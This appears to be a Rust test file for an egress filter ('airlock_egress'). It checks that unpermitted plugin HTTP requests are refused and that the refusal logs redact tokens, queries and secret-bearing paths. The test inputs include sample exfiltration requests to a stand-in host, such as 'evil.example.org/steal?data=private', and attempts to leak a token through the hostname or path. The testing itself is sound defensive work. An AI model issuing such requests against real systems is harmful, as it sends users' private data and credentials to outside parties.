use super::*;

#[tokio::test]
async fn a_missing_rule_is_logged_where_it_would_help_and_not_reported_to_the_guest() {
    let log = Log::default();
    let subscriber =
        tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
    let _here = tracing::subscriber::set_default(subscriber);
    let server = Server::start(|_| ok("")).await;
    let names = Names::new(&[("x.example.com", &[&["10.1.2.3"]])]);
    let requested = ["http://*.example.com:PORT GET /a/**,/b"];
    let session = session(
        &names,
        &server,
        Some(&requested),
        &["http://x.example.com:PORT GET,POST /a/**,/c"],
        Vec::new(),
        Bounds::PLUGIN,
        LONG,
    );
    for request in [
        get("https://evil.example.org/steal?data=private"),
        post(&server.url("x.example.com", "/a*b"), ""),
        get(&server.url("x.example.com", "/c")),
        get(&server.url("x.example.com", "/b")),
        get(&server.url("x.example.com", "/a/")),
    ] {
        let error = session.send(request).await.expect_err("it is refused");
        assert_eq!(error, EgressError::denied());
    }
    let port = server.address.port().to_string();
    insta::assert_snapshot!(log.text().replace(&port, "PORT"), @r#"
     WARN airlock_egress::exchange: outbound request refused caller=plugin host=evil.example.org reason=the manifest does not request this request=https://evil.example.org GET /steal
     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the plugin's own request.http.web excludes the method by its `methods` request=http://x.example.com:PORT POST /a%2Ab
     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the plugin's own request.http.web excludes the path by its `url` or `paths` request=http://x.example.com:PORT GET /c
     WARN airlock_egress::exchange: outbound request refused caller=plugin host=x.example.com reason=the operator does not grant this missing_rule=http://x.example.com:PORT GET /b
     WARN airlock_egress::client: outbound request refused caller="plugin" host=x.example.com address=10.1.2.3 reason=x.example.com resolves to 10.1.2.3, which is private; to permit it, set `private` in the request of the manifest and in the grant
    "#);
}

#[tokio::test]
async fn the_log_shows_neither_the_query_of_a_refused_request_nor_a_credential_in_its_path_or_host()
{
    let log = Log::default();
    let subscriber =
        tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
    let _here = tracing::subscriber::set_default(subscriber);
    let server = Server::start(|_| ok("")).await;
    let names = Names::new(&[("to-ken.example.com", &[&["10.1.2.3"]])]);
    let credential = Credential::new(
        "token",
        Secret::new("To-ken"),
        Injection::query("key").unwrap(),
        Vec::new(),
    )
    .unwrap();
    let granted = ["http://*.example.com:PORT GET /**"];
    let session = session(&names, &server, None, &granted, vec![credential], Bounds::PLUGIN, LONG);
    for request in [
        get("https://To-ken.evil.example.org/shown/To-ken/to?anybody"),
        get(&server.url("to-ken.example.com", "/")),
        get("https://evil.example.org/hidden/%54o-ken"),
        EgressRequest { method: "TO-KEN".to_owned(), ..get("https://evil.example.org/shown") },
    ] {
        assert_eq!(kind_of(session.send(request).await), (EgressErrorKind::Denied, false));
    }
    let log = log.text();
    assert_eq!(log.matches("outbound request refused").count(), 4, "{log}");
    for line in [
        "host=******.evil.example.org reason=the operator does not grant this missing_rule=https://******.evil.example.org GET /*/*/*\n",
        "host=******.example.com address=10.1.2.3 reason=******.example.com resolves to",
        "missing_rule=https://evil.example.org GET /*/*\n",
        "missing_rule=https://evil.example.org ****** /shown\n",
    ] {
        assert!(log.contains(line), "{line} {log}");
    }
    assert!(
        !log.to_lowercase().contains("to-ken")
            && !log.contains("hidden")
            && !log.contains("anybody"),
        "{log}"
    );
}

#[tokio::test]
async fn an_unknown_credential_is_logged_with_the_granted_ones_and_not_reported_to_the_guest() {
    let log = Log::default();
    let subscriber =
        tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
    let _here = tracing::subscriber::set_default(subscriber);
    let server = Server::start(|_| ok("")).await;
    let names = Names::new(&[]);
    let injection = Injection::query("key").unwrap();
    let credential =
        Credential::new("token", Secret::new("hush-hush"), injection, Vec::new()).unwrap();
    let granted = ["https://x.example.com GET /**"];
    let session = session(&names, &server, None, &granted, vec![credential], Bounds::PLUGIN, LONG);
    for name in ["tokn", "hush-hush\n", &"x".repeat(1000)] {
        let request =
            EgressRequest { credentials: vec![name.to_owned()], ..get("https://x.example.com/") };
        let error = session.send(request).await.expect_err("it is refused");
        assert_eq!(error, EgressError::denied());
    }
    let log = log.text();
    let lines: Vec<_> = log.lines().collect();
    assert_eq!(lines.len(), 3, "{log}");
    insta::assert_snapshot!(lines[0], @" WARN airlock_egress::exchange: outbound request refused caller=plugin credential=tokn granted=token reason=\"the plugin has no credential of this name that is attached to requests\"");
    assert!(lines[1].contains("credential=*********⟨U+000A⟩ granted"), "{log}");
    assert!(lines[2].len() < 400, "{log}");
}

/// A log in memory.
#[derive(Clone, Default)]
pub(super) struct Log(Arc<parking_lot::Mutex<Vec<u8>>>);

impl Log {
    pub(super) fn text(&self) -> String {
        String::from_utf8(self.0.lock().clone()).unwrap()
    }
}

impl std::io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().write(bytes)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl tracing_subscriber::fmt::MakeWriter<'_> for Log {
    type Writer = Self;

    fn make_writer(&self) -> Self {
        self.clone()
    }
}
